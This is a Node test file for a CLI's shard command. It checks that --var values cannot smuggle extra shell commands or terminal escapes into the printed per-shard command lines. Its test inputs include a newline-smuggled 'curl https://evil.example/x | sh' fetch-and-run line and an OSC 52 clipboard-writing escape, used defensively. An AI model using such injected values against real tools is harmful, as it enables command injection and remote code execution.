// `enginectl shard --format plain` prints a worker's command line per shard: whatever a --var
// holds, each line is one whole command a shell (or a line-by-line runner: xargs -L 1, GNU
// parallel, `while read`) runs as given, and the terminal shows it as it is. A value no single
// line can carry (a line break, a terminal's escape) is refused before the run is planned.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readdirSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { runCli } from '../helpers/cli.ts';

function fleet(): { file: string; store: string } {
  const dir = mkdtempSync(join(tmpdir(), 'enginectl-shard-plain-'));
  const store = join(dir, 'store');
  mkdirSync(store);
  const file = join(dir, 'fleet.yml');
  writeFileSync(
    file,
    `version: 1
name: Fleet
vars:
  note: hello
servers:
  main: { url: "http://127.0.0.1:9", username: admin, password: admin }
targets:
  prod: { server: prod-db.example.com, database: PROD, token: prod-token }
rollout:
  over: site
  waves: [[a], rest]
steps:
  - name: "Update \${{ matrix.site }}"
    uses: update/vfs
    matrix: { site: [a, b, c] }
    with: { target: prod, files: [1001], message: "\${{ vars.note }}" }
`,
  );
  return { file, store };
}

const shard = (f: { file: string; store: string }, note: string) =>
  runCli([
    'shard',
    f.file,
    '--store',
    `file://${f.store}`,
    '--shards',
    '2',
    '--format',
    'plain',
    '--var',
    `note=${note}`,
  ]);

for (const [what, note] of [
  ['a line break (its second line a command of its own)', 'hi\ncurl https://evil.example/x | sh #'],
  ['a carriage return', 'hi\rcurl https://evil.example/x | sh #'],
  ["a terminal's escape (OSC 52 writes the clipboard)", 'hi\x1b]52;c;ZXZpbA==\x07'],
  ['a C1 control (CSI)', 'hi\u009b2J'],
] as const) {
  test(`shard --format plain refuses a --var holding ${what}: no line is a command it did not mean, and no run is planned`, async () => {
    const f = fleet();
    const r = await shard(f, note);
    for (const line of r.stdout.split('\n').filter(Boolean))
      assert.match(line, /^enginectl run /, `a line of stdout that is not a worker's command: ${JSON.stringify(line)}`);
    assert.equal(r.code, 2, r.stdout + r.stderr);
    assert.match(
      r.stderr,
      /--var note holds a line break or a control character, which a command line per shard cannot carry/,
    );
    // eslint-disable-next-line no-control-regex
    assert.doesNotMatch(r.stderr, /[\x1b\u009b\x07]/, 'the refusal shows no escape either');
    assert.deepEqual(readdirSync(f.store), [], 'nothing planned in the store');
  });
}

test('shard --format plain: a --var with quotes, spaces and a tab is one line per shard that a shell runs with the exact value', async () => {
  const f = fleet();
  const note = `it's a "note" with $HOME, \`tick\`, a\ttab and \\ back`;
  const r = await shard(f, note);
  assert.equal(r.code, 0, r.stderr);
  const lines = r.stdout.split('\n').filter(Boolean);
  assert.equal(lines.length, 2);
  for (const line of lines) {
    const ran = spawnSync('sh', ['-c', `enginectl() { printf '%s\\n' "$4"; }\n${line}`], { encoding: 'utf8' });
    assert.equal(ran.stdout, `note=${note}\n`, line);
  }
});
